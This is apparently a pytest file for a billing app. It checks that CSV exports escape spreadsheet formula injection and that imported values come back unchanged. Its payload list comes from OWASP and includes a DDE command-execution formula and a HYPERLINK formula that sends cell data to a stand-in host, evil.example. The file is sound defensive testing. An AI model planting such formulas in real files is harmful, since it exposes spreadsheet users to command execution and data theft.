"""A cell that a spreadsheet would run is text to it, and comes back as it was."""

import csv
import io
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from billing_admin.csv_files.writing import as_it_was, csv_lines, harmless
from clients.models import Client, ClientNote
from clients.services.export import export_client
from clients.services.profile import open_client
from tests.commands import run_command
from tests.factories import make_client, make_payment_method
from tests.thoroughness import examples
from transactions.services.importing.read import OWN_FORMAT, read_payments

pytestmark = pytest.mark.django_db

# OWASP's list (CSV Injection) and what gets round the usual guards.
RUN = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\tx", "\rx", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1,"Help")', "=WEBSERVICE(A1)", "=1+1\",\"=2+2",
    " =1+1", "   +1", "\u00a0=1+1", "\u200b=1", "\ufeff=1", "\0=1", '"=1+1', "'=1+1", "''=1+1", "' =1", "--1", "-²",
    "-", "+", "+1", "-1-1", "-1,000.00", "-1e5", "-٣", "-1.", "-.5", "1;=1+1", "a\t-1", "a\n@b", "a;\n=1",
]  # fmt: skip
PLAIN = [
    "", "Acme", "-1", "-12.50", "0", "1234.5", "12-13", "a=b", "me@example.com", "2026-11-28", "'tis", "it's", "a; b",
    "INV-000001", '4" disc', "1+1", "Ünïcödé", "−5.00",
]  # fmt: skip


@pytest.mark.parametrize("text", RUN)
def test_what_a_spreadsheet_would_run_is_text(text):
    written = harmless(text)
    assert written != text
    assert written[0] == "'" or "'" in written[1:]
    assert as_it_was(written) == text


@pytest.mark.parametrize("text", PLAIN)
def test_what_it_would_show_stays_as_it_is(text):
    assert harmless(text) == as_it_was(text) == text


@settings(max_examples=examples(300), deadline=None)
@given(st.text(st.sampled_from("=+-@＝'\" ;\t\r\n,1a\u200b\0") | st.characters(codec="utf-8"), max_size=12))
def test_any_text_comes_back_as_it_was(text):
    (line,) = csv_lines([[text]])
    (cell,) = next(csv.reader(io.StringIO(line, newline="")))
    assert as_it_was(cell) == text


TYPED = {"company_name": "=1+1;=2", "first_name": "' =x", "last_name": "-²", "phone": "+43 1 58858", "city": "'s"}
COLUMNS = {"company_name": "Company Name", "first_name": "First Name", "last_name": "Last Name", "phone": "Phone",
           "city": "City"}  # fmt: skip


def test_a_client_of_the_archive_is_imported_as_it_was(tmp_path):
    acme = open_client(by=None, currency="USD", **TYPED)
    with export_client(client=acme, by=None) as archive, zipfile.ZipFile(archive) as files:
        (row,) = csv.DictReader(io.StringIO(files.read("profile.csv").decode(), newline=""))
    assert (row["company_name"], row["phone"], row["city"]) == ("'=1+1;'=2", "'+43 1 58858", "'s")
    path = tmp_path / "clients.csv"
    with path.open("w", newline="") as file:
        csv.writer(file).writerows(
            [["Client ID", "Currency", *COLUMNS.values()], [70_001, "USD", *(row[name] for name in COLUMNS)]]
        )
    assert run_command("import_clients", path).error == ""
    assert Client.objects.filter(number=70_001).values(*TYPED).get() == TYPED


def test_a_payment_of_our_own_format_is_read_as_it_was_written():
    card = make_payment_method()
    row = ["2026-11-16", "4.00", "USD", card.name, "-²", "+1", "=me;=you", "--1"]
    lines = csv_lines([["Date", "Amount", "Currency", "Method", "Reference", "Invoice", "Name", "Description"], row])
    (read,) = read_payments("own.csv", "".join(lines).encode(), OWN_FORMAT).rows
    assert [read.reference, read.invoice, read.name, read.text] == row[4:]


def test_the_archive_keeps_what_is_larger_than_a_csv_reader_takes():
    acme = make_client()
    ClientNote.objects.create(client=acme, text="long " * 40_000, author_name="Ann")
    with export_client(client=acme, by=None) as archive, zipfile.ZipFile(archive) as files:
        assert files.read("notes.csv").decode().count("long ") == 40_000
